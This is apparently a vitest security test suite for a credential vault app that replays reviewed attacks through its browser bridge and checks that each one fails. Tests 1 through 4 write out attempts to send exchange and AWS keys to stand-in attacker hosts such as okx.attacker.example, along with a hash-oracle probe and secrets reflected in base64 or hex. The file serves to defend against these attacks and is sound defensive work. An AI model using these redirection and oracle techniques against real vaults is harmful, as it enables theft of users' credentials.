/**
 * The attacks an outside review found, replayed the way they were found: a compromised renderer calling the
 * browser host's bridge directly, with any channel and any input, against a real vault, the real egress and a
 * real listener on loopback playing the attacker's server. Each one must fail, and fail safe: nothing reaches the
 * listener, no secret (in any encoding) comes back, and what only the person may decide is asked outside the page.
 * docs/SECURITY.md lists them under "Reviewed attacks".
 */
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { createHash } from 'node:crypto';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import type { Confirmation } from '../../src-main/base/confirm';
import { startBrowserHost, type BrowserHost } from '../../src-main/browser-host/browser-host';
import { startLoopback, type Loopback } from '../main/http/loopback-server';
import { connectBridge, type BridgeConnection, type BridgeReply } from './bridge-connection';
import { FAST_KDF } from './e2e-support';

const PASS = 'correct horse battery staple';
const OKX = { apiKey: 'okx-api-key-7f3a', secret: 'b2t4LXNlY3JldC12YWx1ZQ==', passphrase: 'Trading "Pass" 9/x' };

let host: BrowserHost;
let rendererDir: string;
let listener: Loopback;
let bridge: BridgeConnection;
const asked: Confirmation[] = [];
let answers: boolean[] = [];

/** What a successful call returned; fails the test with the error otherwise. */
async function value<T>(reply: Promise<BridgeReply>): Promise<T> {
  const r = await reply;
  if (!r.ok) throw new Error(`${r.error?.code}: ${r.error?.message}`);
  return r.value as T;
}

async function addKey(input: Record<string, unknown>): Promise<string> {
  return (await value<{ id: string }>(bridge.call('vault:add', { environment: 'dev', ...input }))).id;
}

beforeAll(async () => {
  // The attacker is the renderer's code calling the bridge; no page is loaded, so a placeholder build will do.
  rendererDir = await mkdtemp(join(tmpdir(), 'signet-attacks-renderer-'));
  await writeFile(join(rendererDir, 'index.html'), '<!doctype html><title>Signet</title>');
  listener = await startLoopback((_req, res) => {
    res.writeHead(200, { 'content-type': 'application/json' });
    res.end('{"ok":true}');
  });
  host = await startBrowserHost({ kdf: FAST_KDF, rendererDir, confirm: async (q) => (asked.push(q), answers.shift() ?? false) });
  bridge = await connectBridge(host);
  await value(bridge.call('vault:create', { passphrase: PASS, useOsSlot: false, addSandboxKey: true }));
});

afterAll(async () => {
  bridge?.ws.close();
  await host?.close();
  await listener?.close();
  await rm(rendererDir, { recursive: true, force: true });
});

beforeEach(() => {
  asked.length = 0;
  answers = [];
  listener.seen.length = 0;
});

describe('reviewed attacks through the bridge (issue 9)', () => {
  it('1. a base URL cannot send an exchange key’s secrets to a listener: plain http is refused, another host is asked in main, the egress holds', async () => {
    const okx = await addKey({ label: 'OKX main', provider: 'okx', credentials: OKX });
    const plain = await bridge.call('vault:update', { id: okx, meta: { baseUrl: listener.url } });
    expect(plain).toMatchObject({ ok: false, error: { code: 'ERR_VALIDATION', message: expect.stringContaining('travels over https only') } });
    // Another https host: the person is asked outside the page, and says no.
    const elsewhere = await bridge.call('vault:update', { id: okx, meta: { baseUrl: 'https://okx.attacker.example' } });
    expect(elsewhere).toMatchObject({ ok: false, error: { code: 'ERR_CANCELLED' } });
    expect(asked).toHaveLength(1);
    expect(asked[0]).toMatchObject({ title: 'Allow a new destination for this key?', message: 'Let the OKX key “OKX main” send to https://okx.attacker.example', confirmLabel: 'Allow' });
    expect(asked[0]!.detail).toContain('its passphrase');
    expect((await value<{ baseUrl: string | null }>(bridge.call('vault:get', { id: okx }))).baseUrl).toBeNull();
    // A documented host needs no question.
    await value(bridge.call('vault:update', { id: okx, meta: { baseUrl: 'https://aws.okx.com' } }));
    expect(asked).toHaveLength(1);
    // Typing the listener's address into the request itself is refused by the egress before the key is opened.
    const sent = await value<{ error: { code: string } | null; attempts: number }>(bridge.call('request:send', { entryId: okx, method: 'GET', url: `${listener.url}/api/v5/account/balance`, headers: [] }));
    expect(sent).toMatchObject({ attempts: 0, error: { code: 'ERR_HOST_NOT_ALLOWED' } });

    // The keys whose API key is the whole secret, and an AWS key with a session token: same rules.
    for (const input of [
      { label: 'CG', provider: 'coingecko', credentials: { apiKey: 'CG-demo-key-abcdef' } },
      { label: 'TM', provider: 'token-metrics', credentials: { apiKey: 'tm-key-0123456789' } },
      { label: 'AWS', provider: 'aws', credentials: { accessKeyId: 'AKIAIOSFODNN7EXAMPLE', secretAccessKey: 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY', sessionToken: 'IQoJb3JpZ2luX2VjEMr//////////wEaCXVzLWVhc3QtMSJH', region: 'eu-west-1', service: 's3' } },
    ]) {
      const r = await bridge.call('vault:add', { environment: 'dev', ...input, baseUrl: listener.url });
      expect(r, input.provider).toMatchObject({ ok: false, error: { code: 'ERR_VALIDATION' } });
    }
    const aws = await addKey({ label: 'AWS S3', provider: 'aws', credentials: { accessKeyId: 'AKIAIOSFODNN7EXAMPLE', secretAccessKey: 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY', sessionToken: 'IQoJb3JpZ2luX2VjEMr//////////wEaCXVzLWVhc3QtMSJH', region: 'eu-west-1', service: 's3' } });
    const bucket = await value<{ error: { code: string } | null }>(bridge.call('request:send', { entryId: aws, method: 'GET', url: 'https://attacker-bucket.s3.amazonaws.com/x', headers: [] }));
    expect(bucket.error?.code).toBe('ERR_HOST_NOT_ALLOWED');
    expect(listener.seen).toHaveLength(0);
  });

  it('1 (import). a backup’s key with its own address is imported only when the person allows it', async () => {
    answers = [true];
    const own = await addKey({ label: 'Proxy OKX', provider: 'okx', baseUrl: 'https://okx-proxy.example.net', credentials: OKX });
    expect(asked).toHaveLength(1);
    const backupPassphrase = 'another long backup phrase 42';
    await value(bridge.call('vault:export', { backupPassphrase }));
    const preview = await value<{ importId: string; destinations: { label: string; baseUrl: string }[] }>(bridge.call('vault:importPreview', { backupPassphrase }));
    expect(preview.destinations).toContainEqual(expect.objectContaining({ label: 'Proxy OKX', baseUrl: 'https://okx-proxy.example.net' }));
    const before = (await value<unknown[]>(bridge.call('vault:list', {}))).length;
    expect(await bridge.call('vault:import', { importId: preview.importId, onConflict: 'keep-both' })).toMatchObject({ ok: false, error: { code: 'ERR_CANCELLED', message: expect.stringContaining('Nothing was imported') } });
    expect(asked[1]).toMatchObject({ title: 'Import keys that send to their own addresses?', confirmLabel: 'Import' });
    expect(asked[1]!.detail).toContain('Proxy OKX (OKX, dev) → https://okx-proxy.example.net');
    expect((await value<unknown[]>(bridge.call('vault:list', {}))).length).toBe(before);
    answers = [true];
    await value(bridge.call('vault:import', { importId: preview.importId, onConflict: 'keep-both' }));
    expect((await value<unknown[]>(bridge.call('vault:list', {}))).length).toBeGreaterThan(before);
    await value(bridge.call('vault:remove', { id: own }));
  });

  it('2. the recipe scheme is no hash oracle: not on an exchange key, and not over the passphrase on a custom key', async () => {
    const okx = await addKey({ label: 'OKX oracle', provider: 'okx', credentials: OKX });
    const custom = await addKey({ label: 'Custom oracle', provider: 'custom', credentials: { apiKey: 'c-key-0001', secret: 's'.repeat(80), passphrase: OKX.passphrase } });
    const literalOnly = JSON.stringify({ components: [{ type: 'literal', value: 'x' }], algorithm: 'sha256', key: { field: 'passphrase' }, signature: { in: 'header', name: 'X-Sig' } });
    const digests = [OKX.passphrase, 's'.repeat(80)].flatMap((v) => [createHash('sha256').update(v).digest('hex'), createHash('sha256').update(`x${v}`).digest('hex'), createHash('sha256').update(`${v}x`).digest('hex')]);
    for (const entryId of [okx, custom]) {
      const r = await bridge.call('request:preview', { entryId, schemeId: 'recipe', method: 'GET', url: 'https://api.example.com/x', headers: [], options: { recipe: literalOnly } });
      expect(r.ok).toBe(false);
      expect(r.error?.code).toBe('ERR_SIGNING_INPUT');
      expect(r.error?.message).toMatch(entryId === okx ? /OKX keys sign only with okx-v5/ : /key\.field: expected secret/);
      for (const d of digests) expect(JSON.stringify(r)).not.toContain(d);
    }
    // Keyed with the secret, over a literal only: still refused (a function of the key alone).
    const keyOnly = JSON.stringify({ components: [{ type: 'literal', value: 'x' }], algorithm: 'hmac-sha256', signature: { in: 'header', name: 'X-Sig' } });
    expect((await bridge.call('request:preview', { entryId: custom, schemeId: 'recipe', method: 'GET', url: 'https://api.example.com/x', headers: [], options: { recipe: keyOnly } })).ok).toBe(false);
  });

  it('3 and 4. a reflected passphrase, JSON-escaped or base64, never reaches the page or inspector.jsonl; nor does a refused request’s CoinGecko key', async () => {
    answers = [true];
    const phrase = OKX.passphrase;
    const custom = await addKey({ label: 'Echo API', provider: 'custom', baseUrl: listener.url, credentials: { apiKey: 'echo-key-0001', secret: 'echo-secret-0123456789', passphrase: phrase } });
    expect(asked).toHaveLength(1); // a custom key's own address is the person's to allow
    listener.handler = (_req, res) => {
      res.writeHead(400, { 'content-type': 'application/json', 'x-echo': Buffer.from(phrase).toString('base64') });
      res.end(JSON.stringify({ error: `bad passphrase ${phrase}`, tokens: [Buffer.from(`id:${phrase}`).toString('base64url'), Buffer.from(phrase).toString('hex')] }));
    };
    const reply = await bridge.call('request:send', { entryId: custom, schemeId: 'hmac', method: 'GET', url: '/v1/ping', headers: [] });
    expect(reply.ok).toBe(true);
    const forms = [phrase, JSON.stringify(phrase).slice(1, -1), Buffer.from(phrase).toString('base64'), Buffer.from(phrase).toString('hex')];
    for (const f of forms) expect(JSON.stringify(reply)).not.toContain(f);
    const cg = await addKey({ label: 'CG refused', provider: 'coingecko', credentials: { apiKey: 'CG-demo-key-abcdef' } });
    const refused = await bridge.call('request:send', { entryId: cg, method: 'GET', url: `https://elsewhere.example/?k=CG-demo-key-abcdef`, headers: [{ name: 'X-Echo', value: 'CG-demo-key-abcdef' }] });
    expect(JSON.stringify(refused)).not.toContain('CG-demo-key-abcdef');
    await host.services.inspector.flush();
    const file = await readFile(join(host.home, 'inspector.jsonl'), 'utf8');
    for (const f of [...forms, 'CG-demo-key-abcdef']) expect(file).not.toContain(f);
    listener.handler = (_req, res) => res.writeHead(200, { 'content-type': 'application/json' }).end('{"ok":true}');
  });

  it('5. the API key is masked in the preview and the inspector, whole only on request', async () => {
    const okx = await addKey({ label: 'OKX preview', provider: 'okx', credentials: OKX });
    const preview = await value<{ keyMasked: boolean }>(bridge.call('request:preview', { entryId: okx, method: 'GET', url: '/api/v5/account/balance', headers: [] }));
    expect(preview.keyMasked).toBe(true);
    expect(JSON.stringify(preview)).not.toContain(OKX.apiKey);
    expect(JSON.stringify(preview)).not.toContain(OKX.passphrase);
    const shown = await value(bridge.call('request:preview', { entryId: okx, method: 'GET', url: '/api/v5/account/balance', headers: [], revealKey: true }));
    expect(JSON.stringify(shown)).toContain(OKX.apiKey);
    expect(JSON.stringify(shown)).not.toContain(OKX.passphrase);
  });

  it('12. a production key’s order is confirmed outside the page, and so is its re-send', async () => {
    answers = [true]; // the sandbox key's address on this machine, allowed by the person
    const prod = await addKey({ label: 'Prod sandbox', provider: 'sandbox', environment: 'prod', baseUrl: listener.url, credentials: { apiKey: 'prod-key-0001', secret: 'prod-secret-0123456789' } });
    asked.length = 0;
    const order = { entryId: prod, method: 'POST', url: '/v1/orders', headers: [], body: '{"side":"buy","qty":"1"}' };
    expect(await bridge.call('request:send', order)).toMatchObject({ ok: false, error: { code: 'ERR_CANCELLED' } });
    expect(listener.seen).toHaveLength(0);
    expect(asked[0]).toMatchObject({ title: 'Send with a production key?', confirmLabel: 'Send' });
    expect(asked[0]!.detail).toContain('Body: {"side":"buy","qty":"1"}');
    answers = [true];
    const sent = await value<{ id: string; status: number }>(bridge.call('request:send', order));
    expect(sent.status).toBe(200);
    // Re-send is asked again; a no sends nothing.
    expect(await bridge.call('inspector:resend', { id: sent.id })).toMatchObject({ ok: false, error: { code: 'ERR_CANCELLED' } });
    expect(listener.seen).toHaveLength(1);
    expect(asked).toHaveLength(3);
  });
});
